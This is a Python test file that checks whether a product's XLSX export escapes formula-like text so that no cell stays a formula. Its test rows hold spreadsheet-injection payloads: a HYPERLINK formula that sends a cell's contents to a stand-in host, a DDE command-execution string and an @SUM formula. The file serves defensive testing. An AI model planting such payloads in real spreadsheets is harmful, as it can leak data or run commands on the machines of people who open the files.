"""Every XLSX the product writes: no cell is a formula, text that looks like one stays text."""

from __future__ import annotations

import datetime as dt
import io

from openpyxl import Workbook, load_workbook

from giamsat.core.spreadsheets import workbook_bytes


def test_formula_like_text_is_written_as_text_and_numbers_stay_numbers():
    book = Workbook()
    sheet = book.active
    sheet.append(['=HYPERLINK("http://x.example/?q="&A2,"bấm")', "+cmd|' /C calc'!A0", 42, -7])
    sheet.append(["@SUM(1+1)", "Nguyễn Văn An", dt.date(2026, 2, 1), "-"])
    other = book.create_sheet("Khác")
    other["B3"] = "=1+1"
    again = load_workbook(io.BytesIO(workbook_bytes(book)))
    cells = [c for ws in again.worksheets for row in ws.iter_rows() for c in row if c.value]
    assert all(c.data_type != "f" for c in cells)
    first = again.worksheets[0]
    assert first["A1"].value.startswith("'=HYPERLINK") and first["B1"].value.startswith("'+cmd")
    assert (first["C1"].value, first["D1"].value) == (42, -7)
    assert first["A2"].value == "'@SUM(1+1)" and first["B2"].value == "Nguyễn Văn An"
    assert again["Khác"]["B3"].value == "'=1+1"
